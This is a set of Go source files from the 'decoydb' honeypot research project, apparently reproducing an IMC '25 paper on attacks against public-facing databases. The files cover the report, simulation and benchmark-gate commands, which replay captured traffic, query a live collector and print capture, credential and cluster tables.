		if fi, err := os.Stat(filepath.Join(storeFlag.Dir(), cand)); err == nil && fi.IsDir() {
			subdir = cand
			break
		}
	}
	if subdir == "" {
		return fmt.Errorf("-store %s: no journal/ or collector/ subdirectory — nothing was captured here", storeFlag.Dir())
	}

	began := time.Now()
	l, err := storeFlag.Open(subdir, log.Printf)
	if err != nil {
		return err
	}
	defer l.Close()

	store := evstore.NewSharded(core.ExperimentStart, core.ExperimentDays, geoip.Default(), 0)
	farms := map[string]relay.FarmMark{}
	replayed, err := store.AttachWAL(l, func(tag []byte) {
		if farm, epoch, seq, ok := relay.DecodeSourceTag(tag); ok {
			farms[farm] = relay.FarmMark{Epoch: epoch, LastSeq: seq}
		}
	})
	if err != nil {
		return err
	}
	st := l.Stats()
	fmt.Fprintf(w, "decoydb capture report — %s (replayed %d events in %v)\n\n",
		st.Dir, replayed, time.Since(began).Round(time.Millisecond))

	capture := &report.Table{Title: "Capture", Header: []string{"metric", "value"}}
	capture.AddRow("events", store.Events())
	capture.AddRow("unique sources", store.UniqueIPs(evstore.Query{}))
	capture.AddRow("total logins", store.Logins(evstore.Query{}))

	durability := &report.Table{Title: "Durability", Header: []string{"metric", "value"}}
	durability.AddRow("segments", st.Segments)
	durability.AddRow("batches recovered", st.Recovered.Batches)
	durability.AddRow("last sequence", st.LastSeq)
	durability.AddRow("consumer mark", st.Mark)
	durability.AddRow("torn bytes discarded", st.Recovered.TornBytes)
	durability.AddRow("tail truncations", st.Recovered.Truncations)
	if st.Recovered.TornBytes > 0 {
		durability.Note = "a torn tail was cut at the last valid record; everything above survived the crash"
	}

	tables := []*report.Table{capture, durability}
	if len(farms) > 0 {
		ft := &report.Table{
			Title:  "Farm marks",
			Header: []string{"farm", "epoch", "last seq"},
			Note:   "per-farm dedup high-water marks journaled by the collector",
		}
		names := make([]string, 0, len(farms))
		for name := range farms {
			names = append(names, name)
		}
		sort.Strings(names)
		for _, name := range names {
			m := farms[name]
			ft.AddRow(name, fmt.Sprintf("%#x", m.Epoch), m.LastSeq)
		}
		tables = append(tables, ft)
	}
	for _, t := range tables {
		fmt.Fprintf(w, "=== Store — %s ===\n%s\n", t.Title, t)
	}
	return nil
}
