// Command dbreport regenerates every table and figure from the paper's
// evaluation: it runs the simulated 20-day deployment, feeds the captured
// traffic through the enrichment/classification/clustering pipeline, and
// prints each artefact alongside the paper's reported values.
//
// Usage:
//
//	dbreport [-seed N] [-scale N] [-only T5,T8] [-o report.txt]
package main

import (
	"context"
	"flag"
	"fmt"
	"io"
	"log"
	"os"
	"strings"
	"time"

	"decoydb/internal/experiments"
	"decoydb/internal/simnet"
)

func main() {
	log.SetFlags(0)
	log.SetPrefix("dbreport: ")
	var (
		seed  = flag.Int64("seed", 1, "simulation seed")
		scale = flag.Int("scale", simnet.DefaultScale, "brute-force volume divisor (1 = paper volume)")
		only  = flag.String("only", "", "comma-separated experiment IDs (default: all)")
		out   = flag.String("o", "", "write the report to a file as well as stdout")
	)
	flag.Parse()

	var w io.Writer = os.Stdout
	if *out != "" {
		f, err := os.Create(*out)
		if err != nil {
			log.Fatal(err)
		}
		defer f.Close()
		w = io.MultiWriter(os.Stdout, f)
	}

	began := time.Now()
	fmt.Fprintf(w, "decoydb experiment report (seed=%d scale=1/%d)\n", *seed, *scale)
	fmt.Fprintf(w, "reproducing: Decoy Databases — Analyzing Attacks on Public Facing Databases (IMC '25)\n\n")

	ds, err := experiments.Build(context.Background(), *seed, *scale)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Fprintf(w, "dataset built in %v: %d events from %d sources\n",
		time.Since(began).Round(time.Millisecond), ds.Snap.Events(), len(ds.Recs))
	if ds.InstApplied == 0 && len(ds.Pop.Institutional) > 0 {
		fmt.Fprintf(w, "warning: institutional scanner list (%d addresses) does not overlap the capture — Section 6.1 shares will be zero\n",
			len(ds.Pop.Institutional))
	}
	fmt.Fprintf(w, "transport: %s\n\n", ds.Bus)

	selected := map[string]bool{}
	for _, id := range strings.Split(*only, ",") {
		if id = strings.TrimSpace(id); id != "" {
			selected[id] = true
		}
	}
	for _, e := range experiments.All {
		if len(selected) > 0 && !selected[e.ID] {
			continue
		}
		art := e.Run(ds)
		fmt.Fprintf(w, "=== %s — %s ===\n%s\n", art.ID, art.Title, art.Body)
	}
	fmt.Fprintf(w, "total runtime: %v\n", time.Since(began).Round(time.Millisecond))
}
