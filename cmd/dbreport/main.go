// Command dbreport regenerates every table and figure from the paper's
// evaluation: it runs the simulated 20-day deployment, feeds the captured
// traffic through the enrichment/classification/clustering pipeline, and
// prints each artefact alongside the paper's reported values.
//
// With -store DIR it skips the simulation entirely and reports on a real
// capture instead: the write-ahead log a decoydb farm (DIR/journal) or a
// dbcollect collector (DIR/collector) left behind is replayed into an
// event store, and the capture summary — including how much of a torn
// tail recovery had to discard — is printed. This closes the durability
// loop: run decoydb -store, kill it however rudely, and dbreport shows
// exactly what survived.
//
// With -live ADDR it reports on a *running* collector instead: the
// admin plane dbcollect serves with -admin (see internal/obs) exposes
// /statusz and /query over HTTP, and dbreport renders the live capture
// in the same artefact format — no restart, no WAL replay, just a
// point-in-time view of a collection session still in flight.
//
// Usage:
//
//	dbreport [-seed N] [-scale N] [-only T5,T8] [-o report.txt]
//	dbreport -store DIR [-o report.txt]
//	dbreport -live 127.0.0.1:9200 [-o report.txt]
package main

import (
	"context"
	"flag"
	"fmt"
	"io"
	"log"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"time"

	"decoydb/internal/cliflags"
	"decoydb/internal/core"
	"decoydb/internal/evstore"
	"decoydb/internal/experiments"
	"decoydb/internal/geoip"
	"decoydb/internal/obs"
	"decoydb/internal/relay"
	"decoydb/internal/report"
	"decoydb/internal/simnet"
	"decoydb/internal/stream"
)

func main() {
	log.SetFlags(0)
	log.SetPrefix("dbreport: ")
	var (
		seed  = flag.Int64("seed", 1, "simulation seed")
		scale = flag.Int("scale", simnet.DefaultScale, "brute-force volume divisor (1 = paper volume)")
		only  = flag.String("only", "", "comma-separated experiment IDs (default: all)")
		out   = flag.String("o", "", "write the report to a file as well as stdout")
		live  = flag.String("live", "", "report on a running collector's admin plane at this host:port (dbcollect -admin)")
	)
	storeFlag := cliflags.RegisterStore(flag.CommandLine)
	flag.Parse()

	var w io.Writer = os.Stdout
	if *out != "" {
		f, err := os.Create(*out)
		if err != nil {
			log.Fatal(err)
		}
		defer f.Close()
		w = io.MultiWriter(os.Stdout, f)
	}

	if *live != "" {
		if err := reportLive(w, *live); err != nil {
			log.Fatal(err)
		}
		return
	}
	if storeFlag.Enabled() {
		if err := reportStore(w, storeFlag); err != nil {
			log.Fatal(err)
		}
		return
	}

	began := time.Now()
	fmt.Fprintf(w, "decoydb experiment report (seed=%d scale=1/%d)\n", *seed, *scale)
	fmt.Fprintf(w, "reproducing: Decoy Databases — Analyzing Attacks on Public Facing Databases (IMC '25)\n\n")

	ds, err := experiments.Build(context.Background(), *seed, *scale)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Fprintf(w, "dataset built in %v: %d events from %d sources\n",
		time.Since(began).Round(time.Millisecond), ds.Snap.Events(), len(ds.Recs))
	if ds.InstApplied == 0 && len(ds.Pop.Institutional) > 0 {
		fmt.Fprintf(w, "warning: institutional scanner list (%d addresses) does not overlap the capture — Section 6.1 shares will be zero\n",
			len(ds.Pop.Institutional))
	}
	fmt.Fprintf(w, "transport: %s\n\n", ds.Bus)

	selected := map[string]bool{}
	for _, id := range strings.Split(*only, ",") {
		if id = strings.TrimSpace(id); id != "" {
			selected[id] = true
		}
	}
	for _, e := range experiments.All {
		if len(selected) > 0 && !selected[e.ID] {
			continue
		}
		art := e.Run(ds)
		fmt.Fprintf(w, "=== %s — %s ===\n%s\n", art.ID, art.Title, art.Body)
	}
	fmt.Fprintf(w, "total runtime: %v\n", time.Since(began).Round(time.Millisecond))
}

// reportStore replays a -store directory's write-ahead log into a fresh
// event store and prints what the capture holds. It prefers the farm
// journal (decoydb writes DIR/journal) and falls back to a collector's
// journal (dbcollect writes DIR/collector).
func reportStore(w io.Writer, storeFlag *cliflags.Store) error {
	subdir := ""
	for _, cand := range []string{"journal", "collector"} {
		if fi, err := os.Stat(filepath.Join(storeFlag.Dir(), cand)); err == nil && fi.IsDir() {
			subdir = cand
			break
		}
	}
	if subdir == "" {
		return fmt.Errorf("-store %s: no journal/ or collector/ subdirectory — nothing was captured here", storeFlag.Dir())
	}

	began := time.Now()
	l, err := storeFlag.Open(subdir, log.Printf)
	if err != nil {
		return err
	}
	defer l.Close()

	store := evstore.NewSharded(core.ExperimentStart, core.ExperimentDays, geoip.Default(), 0)
	farms := map[string]relay.FarmMark{}
	replayed, err := store.AttachWAL(l, func(tag []byte) {
		if farm, epoch, seq, ok := relay.DecodeSourceTag(tag); ok {
			farms[farm] = relay.FarmMark{Epoch: epoch, LastSeq: seq}
		}
	})
	if err != nil {
		return err
	}
	st := l.Stats()
	fmt.Fprintf(w, "decoydb capture report — %s (replayed %d events in %v)\n\n",
		st.Dir, replayed, time.Since(began).Round(time.Millisecond))

	capture := &report.Table{Title: "Capture", Header: []string{"metric", "value"}}
	capture.AddRow("events", store.Events())
	capture.AddRow("unique sources", store.UniqueIPs(evstore.Query{}))
	capture.AddRow("total logins", store.Logins(evstore.Query{}))

	durability := &report.Table{Title: "Durability", Header: []string{"metric", "value"}}
	durability.AddRow("segments", st.Segments)
	durability.AddRow("batches recovered", st.Recovered.Batches)
	durability.AddRow("last sequence", st.LastSeq)
	durability.AddRow("consumer mark", st.Mark)
	durability.AddRow("torn bytes discarded", st.Recovered.TornBytes)
	durability.AddRow("tail truncations", st.Recovered.Truncations)
	if st.Recovered.TornBytes > 0 {
		durability.Note = "a torn tail was cut at the last valid record; everything above survived the crash"
	}

	tables := []*report.Table{capture, durability}
	if len(farms) > 0 {
		ft := &report.Table{
			Title:  "Farm marks",
			Header: []string{"farm", "epoch", "last seq"},
			Note:   "per-farm dedup high-water marks journaled by the collector",
		}
		names := make([]string, 0, len(farms))
		for name := range farms {
			names = append(names, name)
		}
		sort.Strings(names)
		for _, name := range names {
			m := farms[name]
			ft.AddRow(name, fmt.Sprintf("%#x", m.Epoch), m.LastSeq)
		}
		tables = append(tables, ft)
	}
	for _, t := range tables {
		fmt.Fprintf(w, "=== Store — %s ===\n%s\n", t.Title, t)
	}
	return nil
}

// liveLimit is how many source rows a -live report pulls from /query.
const liveLimit = 20

// reportLive renders a point-in-time report from a running collector's
// admin plane via obs.Client: /query carries the store-derived
// aggregates, /statusz the relay transport counters. Partial planes
// degrade gracefully — a farm binary serves /statusz but not /query,
// and the report says so instead of failing. A collector running with
// -peers answers /query for its whole tier; the report then carries a
// "Collector tier" table showing who contributed.
func reportLive(w io.Writer, addr string) error {
	client := obs.NewClient(addr, 10*time.Second)
	ctx := context.Background()

	// statusz is a map of source name -> raw status; only the sections
	// this report renders are decoded, the rest stay opaque.
	status, err := client.Statusz(ctx)
	if err != nil {
		return fmt.Errorf("is the admin plane up (-admin on the collector)? %w", err)
	}
	fmt.Fprintf(w, "decoydb live report — %s\n\n", client.Base())

	var tables []*report.Table
	if cst, ok, err := obs.CollectorFromStatus(status); err != nil {
		return err
	} else if ok {
		farms := &report.Table{
			Title:  "Farms",
			Header: []string{"farm", "last seq", "frames", "events", "dup frames", "dup events"},
		}
		for _, f := range cst.Farms {
			farms.AddRow(f.Name, f.LastSeq, f.Frames, f.Events, f.DupFrames, f.DupEvents)
		}
		farms.Note = fmt.Sprintf("transport: %d conns (%d open), %d auth failures, %.2fx compression",
			cst.Conns, cst.Active, cst.AuthFailures, cst.CompressionRatio())
		tables = append(tables, farms)
	}

	qr, err := client.Query(ctx, obs.QueryRequest{Creds: 10, Limit: liveLimit})
	if err != nil {
		tables = append(tables, &report.Table{
			Title:  "Capture",
			Header: []string{"metric", "value"},
			Note:   fmt.Sprintf("no /query endpoint here (%v) — farms serve metrics only; point -live at a dbcollect admin address", err),
		})
	} else {
		q := *qr
		if q.Tier != nil {
			tier := &report.Table{
				Title:  "Collector tier",
				Header: []string{"collector", "ok", "events", "error"},
			}
			tier.AddRow(client.Base(), true, "(local)", "")
			for _, p := range q.Tier.Peers {
				errStr := p.Error
				if len(errStr) > 60 {
					errStr = errStr[:57] + "..."
				}
				tier.AddRow(p.Addr, p.OK, p.Events, errStr)
			}
			tier.Note = fmt.Sprintf("merged view: %d of %d collectors responded", q.Tier.Responded, q.Tier.Collectors)
			if q.Tier.Approx {
				tier.Note += " — unique/total counts are an upper bound (record pages truncated or a peer missing)"
			}
			tables = append(tables, tier)
		}
		capture := &report.Table{Title: "Capture", Header: []string{"metric", "value"}}
		capture.AddRow("events", q.Events)
		uniq := fmt.Sprint(q.UniqueIPs)
		if q.Tier != nil && q.Tier.Approx {
			uniq = "≤ " + uniq
		}
		capture.AddRow("unique sources", uniq)
		capture.AddRow("total logins", q.Logins)
		capture.AddRow("capture day", q.Days)
		capture.Note = fmt.Sprintf("snapshot age %s at %s", q.SnapshotAge, q.Now.Format(time.RFC3339))

		creds := &report.Table{
			Title:  "Top credentials",
			Header: []string{"dbms", "user", "pass", "count"},
		}
		for _, c := range q.Creds {
			creds.AddRow(c.DBMS, c.User, c.Pass, c.Count)
		}

		sources := &report.Table{
			Title:  "Top sources",
			Header: []string{"addr", "country", "sessions", "logins", "ok", "commands", "days", "verdict"},
		}
		for _, r := range q.Records {
			sources.AddRow(r.Addr, r.Country, r.Sessions, r.Logins, r.LoginOK, r.Commands, r.ActiveDays, r.Verdict)
		}
		if q.Total > len(q.Records) {
			sources.Note = fmt.Sprintf("first %d of %d sources (address order; use /query directly to page)", len(q.Records), q.Total)
		}
		tables = append(tables, capture, creds, sources)
	}

	// Streaming analysis, when the plane runs with -stream: recent
	// escalations and the top behaviour clusters. A plane without the
	// analyzer has no /alerts endpoint; the sections are simply omitted —
	// same graceful degradation as /query above, but silent, because an
	// un-wired optional subsystem is not worth a note.
	if page, err := client.Alerts(ctx, liveLimit); err == nil {
		alerts := &report.Table{
			Title:  "Recent escalations",
			Header: []string{"time", "src", "dbms", "transition", "action"},
		}
		for _, a := range page.Alerts {
			if a.Kind != stream.EscalationAlert {
				continue
			}
			alerts.AddRow(a.Time.Format(time.RFC3339), a.Src, a.DBMS, a.From+"→"+a.To, a.Action)
		}
		alerts.Note = fmt.Sprintf("lifetime: %d escalations, %d new clusters, %d shifts over %d events from %d sources",
			page.Stats.Escalations, page.Stats.NewClusters, page.Stats.Shifts, page.Stats.Events, page.Stats.Sources)
		tables = append(tables, alerts)

		if cl, err := client.Clusters(ctx); err == nil {
			clusters := &report.Table{
				Title:  "Behaviour clusters",
				Header: []string{"cluster", "members", "assigns", "top actions"},
			}
			for i, c := range cl.Clusters {
				if i >= liveLimit {
					clusters.Note = fmt.Sprintf("first %d of %d clusters by member count", liveLimit, len(cl.Clusters))
					break
				}
				clusters.AddRow(c.ID, c.Members, c.Assigns, strings.Join(c.TopActions, ", "))
			}
			tables = append(tables, clusters)
		}
	}

	for _, t := range tables {
		fmt.Fprintf(w, "=== Live — %s ===\n%s\n", t.Title, t)
	}
	return nil
}
