// Command dbsim runs the simulated 20-day honeypot deployment and writes
// the captured traffic as per-honeypot log files (the paper's published
// dataset format), then loads them back through the conversion pipeline
// and prints a dataset summary — exercising the full Figure 1 flow:
// honeypots -> logs -> conversion -> enrichment -> queryable store.
//
// Usage:
//
//	dbsim [-seed N] [-scale N] [-logs DIR] [-bus-policy block|drop|adaptive]
//
// The default block policy is lossless and keeps the dataset a pure
// function of the seed; -bus-policy adaptive (with -bus-highwater,
// -bus-lowwater, -bus-source-budget, -bus-source-window) exercises the
// per-source shedding a live farm would use under a hostile flood.
package main

import (
	"context"
	"flag"
	"fmt"
	"log"
	"os"
	"os/signal"

	"decoydb/internal/bus"
	"decoydb/internal/core"
	"decoydb/internal/evstore"
	"decoydb/internal/geoip"
	"decoydb/internal/pipeline"
	"decoydb/internal/simnet"
)

func main() {
	log.SetFlags(0)
	log.SetPrefix("dbsim: ")
	var (
		seed      = flag.Int64("seed", 1, "simulation seed")
		scale     = flag.Int("scale", simnet.DefaultScale, "brute-force volume divisor (1 = paper volume, slow)")
		dir       = flag.String("logs", "honeypot-logs", "directory for honeypot log files")
		policy    = flag.String("bus-policy", "block", "event bus backpressure policy: block (lossless, reproducible), drop or adaptive")
		highWater = flag.Int("bus-highwater", 0, "adaptive: queue depth that starts per-source shedding (0 = 3/4 of queue)")
		lowWater  = flag.Int("bus-lowwater", 0, "adaptive: queue depth that stops shedding (0 = 1/4 of queue)")
		srcBudget = flag.Int("bus-source-budget", 0, "adaptive: events each source keeps per window while shedding (0 = default)")
		srcWindow = flag.Duration("bus-source-window", 0, "adaptive: per-source budget window (0 = default)")
	)
	flag.Parse()

	busPolicy, err := bus.ParsePolicy(*policy)
	if err != nil {
		log.Fatalf("-bus-policy: %v", err)
	}
	if busPolicy != bus.Block {
		log.Printf("warning: -bus-policy %s can shed events; the dataset is no longer a pure function of the seed", busPolicy)
	}

	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt)
	defer stop()

	lw, err := pipeline.NewLogWriter(*dir)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("running 20-day deployment simulation (seed=%d scale=1/%d)...\n", *seed, *scale)
	res, err := simnet.Run(ctx, simnet.Config{
		Seed: *seed, Scale: *scale,
		Bus: bus.Options{
			Policy:    busPolicy,
			HighWater: *highWater, LowWater: *lowWater,
			SourceBudget: *srcBudget, SourceWindow: *srcWindow,
		},
	}, lw)
	if err != nil {
		lw.Close()
		log.Fatal(err)
	}
	if err := lw.Close(); err != nil {
		log.Fatal(err)
	}
	fmt.Printf("simulation done in %v: %d sessions (%d torn connections)\n",
		res.Elapsed.Round(1e6), res.Sessions, res.Errors)
	fmt.Printf("transport: %s\n", res.Bus)
	fmt.Printf("population: %d actors, %d brute-forcers, %d exploiters, %d institutional\n",
		len(res.Population.Actors), len(res.Population.BruteForcers),
		len(res.Population.Exploiters), len(res.Population.Institutional))

	store, err := pipeline.Load(*dir, core.ExperimentStart, core.ExperimentDays, geoip.Default())
	if err != nil {
		log.Fatal(err)
	}
	applied := store.MarkInstitutional(res.Population.Institutional)
	if applied == 0 && len(res.Population.Institutional) > 0 {
		log.Printf("warning: institutional list (%d addresses) does not overlap the capture",
			len(res.Population.Institutional))
	}
	fmt.Printf("pipeline reload: %d events, %d unique sources, %d total logins\n",
		store.Events(), store.UniqueIPs(evstore.Query{}), store.Logins(evstore.Query{}))
	fmt.Printf("logs written to %s (run dbreport for the full table/figure report)\n", *dir)
}
