// Command dbsim runs the simulated 20-day honeypot deployment and writes
// the captured traffic as per-honeypot log files (the paper's published
// dataset format), then loads them back through the conversion pipeline
// and prints a dataset summary — exercising the full Figure 1 flow:
// honeypots -> logs -> conversion -> enrichment -> queryable store.
//
// Usage:
//
//	dbsim [-seed N] [-scale N] [-logs DIR] [-bus-policy block|drop|adaptive] [-forward SPEC]
//
// The default block policy is lossless and keeps the dataset a pure
// function of the seed; -bus-policy adaptive (with -bus-highwater,
// -bus-lowwater, -bus-source-budget, -bus-source-window) exercises the
// per-source shedding a live farm would use under a hostile flood.
//
// With -forward "addrs=a:7100|b:7100,token=SECRET[,farm=NAME]" (legacy
// host:port,token[,farm] still accepted) the captured events also stream
// to a dbcollect collector tier over the relay protocol. The forwarder runs
// in blocking (lossless) mode here: a finite capture should arrive
// complete, so dbsim waits for spool space rather than shedding. Adding
// -store DIR backs that spool with a write-ahead log under DIR/spool,
// so even a killed simulation finishes its delivery on the next run.
package main

import (
	"context"
	"flag"
	"fmt"
	"log"
	"os"
	"os/signal"

	"decoydb/internal/bus"
	"decoydb/internal/cliflags"
	"decoydb/internal/core"
	"decoydb/internal/evstore"
	"decoydb/internal/geoip"
	"decoydb/internal/obs"
	"decoydb/internal/pipeline"
	"decoydb/internal/relay"
	"decoydb/internal/simnet"
	"decoydb/internal/wal"
)

func main() {
	log.SetFlags(0)
	log.SetPrefix("dbsim: ")
	var (
		seed  = flag.Int64("seed", 1, "simulation seed")
		scale = flag.Int("scale", simnet.DefaultScale, "brute-force volume divisor (1 = paper volume, slow)")
		dir   = flag.String("logs", "honeypot-logs", "directory for honeypot log files")
	)
	busFlags := cliflags.RegisterBus(flag.CommandLine, "block")
	fwdFlag := cliflags.RegisterForward(flag.CommandLine)
	storeFlag := cliflags.RegisterStore(flag.CommandLine)
	adminFlag := cliflags.RegisterAdmin(flag.CommandLine)
	streamFlag := cliflags.RegisterStream(flag.CommandLine)
	flag.Parse()

	busOpts, err := busFlags.Options()
	if err != nil {
		log.Fatal(err)
	}
	if busOpts.Policy != bus.Block {
		log.Printf("warning: -bus-policy %s can shed events; the dataset is no longer a pure function of the seed", busOpts.Policy)
	}

	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt)
	defer stop()

	lw, err := pipeline.NewLogWriter(*dir)
	if err != nil {
		log.Fatal(err)
	}
	sinks := []core.Sink{lw}
	var spool *wal.Log
	if fwdFlag.Enabled() {
		if spool, err = storeFlag.Open("spool", log.Printf); err != nil {
			log.Fatal(err)
		}
	}
	// SpoolWAL is an interface: assign only when the concrete log exists,
	// or a nil *wal.Log would read as a present (broken) log.
	fwdBase := relay.ForwardOptions{Farm: "dbsim", Block: true, Logf: log.Printf}
	if spool != nil {
		fwdBase.SpoolWAL = spool
	}
	fwd, err := fwdFlag.Sink(fwdBase)
	if err != nil {
		log.Fatal(err)
	}
	if fwd != nil {
		sinks = append(sinks, fwd)
		// SIGHUP re-reads -forward-file and re-ranks the collector tier
		// mid-simulation — the same live reload path a real farm uses.
		defer fwdFlag.WatchSIGHUP(fwd, fwdBase, log.Printf)()
	}

	// With -stream, the online analyzer rides the bus and classifies the
	// simulated population as it arrives — the same path a live farm
	// uses, driven by reproducible traffic.
	analyzer := streamFlag.Analyzer()
	if analyzer != nil {
		sinks = append(sinks, analyzer)
	}

	// With -admin, the simulation exposes the same observability plane a
	// live farm would: the trace ring and a kind-count sink ride the bus,
	// the bus itself registers through the OnBus hook once simnet builds
	// it. Useful for watching a long full-scale run converge.
	var onBus func(*bus.Bus)
	if adminFlag.Enabled() {
		traces := obs.NewTraceRing(obs.TraceOptions{Verdicts: cliflags.TraceVerdicts(analyzer)})
		kinds := &bus.StatsSink{}
		sinks = append(sinks, traces, kinds)
		reg := obs.NewRegistry()
		reg.Register(obs.KindSource(kinds))
		if spool != nil {
			reg.Register(obs.WALSource("spool", spool))
		}
		if fwd != nil {
			reg.Register(obs.ForwardSource(fwd))
		}
		onBus = func(b *bus.Bus) { reg.Register(obs.BusSource(b)) }
		srvOpts := obs.ServerOptions{Registry: reg, Traces: traces, Stream: analyzer, Logf: log.Printf}
		if fwd != nil {
			srvOpts.ReloadForward = fwd.SetEndpoints
		}
		admin, err := adminFlag.Start(srvOpts)
		if err != nil {
			log.Fatal(err)
		}
		defer admin.Close()
	}

	fmt.Printf("running 20-day deployment simulation (seed=%d scale=1/%d)...\n", *seed, *scale)
	res, err := simnet.Run(ctx, simnet.Config{
		Seed: *seed, Scale: *scale, Bus: busOpts, OnBus: onBus,
	}, sinks...)
	if err != nil {
		lw.Close()
		log.Fatal(err)
	}
	if err := lw.Close(); err != nil {
		log.Fatal(err)
	}
	if fwd != nil {
		// simnet.Run already flushed the forwarder; Close just reports
		// whether anything non-recoverable happened.
		if err := fwd.Close(); err != nil {
			log.Printf("relay: %v", err)
		}
		fmt.Printf("forwarded: %s\n", fwd.Stats())
	}
	if spool != nil {
		if err := spool.Close(); err != nil {
			log.Printf("spool: %v", err)
		}
	}
	fmt.Printf("simulation done in %v: %d sessions (%d torn connections)\n",
		res.Elapsed.Round(1e6), res.Sessions, res.Errors)
	fmt.Printf("transport: %s\n", res.Bus)
	fmt.Printf("population: %d actors, %d brute-forcers, %d exploiters, %d institutional\n",
		len(res.Population.Actors), len(res.Population.BruteForcers),
		len(res.Population.Exploiters), len(res.Population.Institutional))
	if analyzer != nil {
		st := analyzer.Stats()
		fmt.Printf("streaming: %d sources tracked in %d clusters; %d alerts (%d escalations, %d new clusters, %d shifts)\n",
			st.Sources, st.Clusters, st.Alerts, st.Escalations, st.NewClusters, st.Shifts)
	}

	store, err := pipeline.Load(*dir, core.ExperimentStart, core.ExperimentDays, geoip.Default())
	if err != nil {
		log.Fatal(err)
	}
	applied := store.MarkInstitutional(res.Population.Institutional)
	if applied == 0 && len(res.Population.Institutional) > 0 {
		log.Printf("warning: institutional list (%d addresses) does not overlap the capture",
			len(res.Population.Institutional))
	}
	fmt.Printf("pipeline reload: %d events, %d unique sources, %d total logins\n",
		store.Events(), store.UniqueIPs(evstore.Query{}), store.Logins(evstore.Query{}))
	fmt.Printf("logs written to %s (run dbreport for the full table/figure report)\n", *dir)
}
