// Command benchjson runs go benchmarks and emits the results as
// machine-readable JSON, with optional floor and ratio assertions — the
// CI gate that keeps the transport and durability numbers honest
// (events/s floors, WAL-on vs in-memory ingest within a bounded
// ratio) while archiving every metric for cross-run comparison.
//
// Usage:
//
//	benchjson [-o BENCH.json] [-benchtime 20x] \
//	    [-min 'NAME:METRIC:FLOOR']... \
//	    [-maxratio 'NUMER:DENOM:METRIC:RATIO']... \
//	    [-baseline OLD.json -regress 'NAME:METRIC:FACTOR']... \
//	    PKG:BENCHREGEX ...
//
// Each positional argument names a package and the benchmark regexp to
// run in it (the package comes first — import paths never contain a
// colon). Benchmark names are recorded with the GOMAXPROCS suffix
// stripped, so assertions are stable across machines.
package main

import (
	"encoding/json"
	"flag"
	"fmt"
	"log"
	"os"
	"os/exec"
	"regexp"
	"strconv"
	"strings"
)

// multiFlag collects a repeatable string flag.
type multiFlag []string

func (m *multiFlag) String() string     { return strings.Join(*m, ",") }
func (m *multiFlag) Set(s string) error { *m = append(*m, s); return nil }

// result is one benchmark's metrics: "n" (iterations) plus every
// VALUE UNIT pair go test printed (ns/op, B/op, events/s, ...).
type result map[string]float64

type output struct {
	Goos   string            `json:"goos,omitempty"`
	Goarch string            `json:"goarch,omitempty"`
	CPU    string            `json:"cpu,omitempty"`
	Bench  map[string]result `json:"benchmarks"`
}

// benchLine matches "BenchmarkName-8   	  100	  33210 ns/op	 7708487 events/s".
var (
	benchLine = regexp.MustCompile(`^(Benchmark\S+?)(?:-\d+)?\s+(\d+)\s+(.*)$`)
	metricRE  = regexp.MustCompile(`([0-9.eE+-]+)\s+(\S+)`)
)

func main() {
	log.SetFlags(0)
	log.SetPrefix("benchjson: ")
	var (
		out       = flag.String("o", "", "write the JSON report here (default stdout)")
		benchtime = flag.String("benchtime", "", "go test -benchtime value (e.g. 20x, 1s)")
		baseline  = flag.String("baseline", "", "prior benchjson report to diff -regress assertions against")
		mins      multiFlag
		ratios    multiFlag
		regress   multiFlag
	)
	flag.Var(&mins, "min", "assert a floor: NAME:METRIC:VALUE (repeatable)")
	flag.Var(&ratios, "maxratio", "assert a ratio ceiling: NUMER:DENOM:METRIC:RATIO (repeatable)")
	flag.Var(&regress, "regress", "assert against -baseline: NAME:METRIC:FACTOR fails when baseline/current > factor (repeatable)")
	flag.Parse()
	if len(regress) > 0 && *baseline == "" {
		log.Fatal("-regress needs -baseline")
	}
	if flag.NArg() == 0 {
		log.Fatal("no benchmarks requested: want PKG:BENCHREGEX arguments")
	}

	rep := output{Bench: map[string]result{}}
	for _, spec := range flag.Args() {
		pkg, pattern, ok := strings.Cut(spec, ":")
		if !ok || pkg == "" || pattern == "" {
			log.Fatalf("want PKG:BENCHREGEX, got %q", spec)
		}
		args := []string{"test", "-run=NONE", "-bench=" + pattern}
		if *benchtime != "" {
			args = append(args, "-benchtime="+*benchtime)
		}
		args = append(args, pkg)
		cmd := exec.Command("go", args...)
		cmd.Stderr = os.Stderr
		raw, err := cmd.Output()
		if err != nil {
			log.Fatalf("go %s: %v", strings.Join(args, " "), err)
		}
		parse(string(raw), &rep)
	}
	if len(rep.Bench) == 0 {
		log.Fatal("no benchmark results parsed")
	}

	failed := false
	for _, m := range mins {
		name, metric, floor, err := splitAssert(m, 3)
		if err != nil {
			log.Fatalf("-min %q: %v", m, err)
		}
		got, ok := lookup(rep.Bench, name, metric)
		if !ok {
			log.Fatalf("-min %q: no metric %q for %q in results", m, metric, name)
		}
		if got < floor {
			log.Printf("FAIL: %s %s = %.0f, floor %.0f", name, metric, got, floor)
			failed = true
		} else {
			log.Printf("ok: %s %s = %.0f >= %.0f", name, metric, got, floor)
		}
	}
	// Regression checks diff against a committed baseline report: the
	// metric may drift run to run, but dropping to less than 1/factor of
	// the baseline means the change being tested broke something. Higher-
	// is-better metrics only (events/s), matching how -min is used.
	var baseBench map[string]result
	if len(regress) > 0 {
		baseBench = loadBaseline(*baseline)
	}
	for _, r := range regress {
		name, metric, factor, err := splitAssert(r, 3)
		if err != nil {
			log.Fatalf("-regress %q: %v", r, err)
		}
		base, ok := lookup(baseBench, name, metric)
		if !ok {
			log.Fatalf("-regress %q: no metric %q for %q in baseline %s", r, metric, name, *baseline)
		}
		got, ok := lookup(rep.Bench, name, metric)
		if !ok {
			log.Fatalf("-regress %q: no metric %q for %q in results", r, metric, name)
		}
		if got == 0 || base/got > factor {
			log.Printf("FAIL: %s %s = %.0f, baseline %.0f — regressed more than %.1fx", name, metric, got, base, factor)
			failed = true
		} else {
			log.Printf("ok: %s %s = %.0f vs baseline %.0f (%.2fx, limit %.1fx)", name, metric, got, base, base/got, factor)
		}
	}
	for _, r := range ratios {
		parts := strings.Split(r, ":")
		if len(parts) != 4 {
			log.Fatalf("-maxratio %q: want NUMER:DENOM:METRIC:RATIO", r)
		}
		limit, err := strconv.ParseFloat(parts[3], 64)
		if err != nil {
			log.Fatalf("-maxratio %q: %v", r, err)
		}
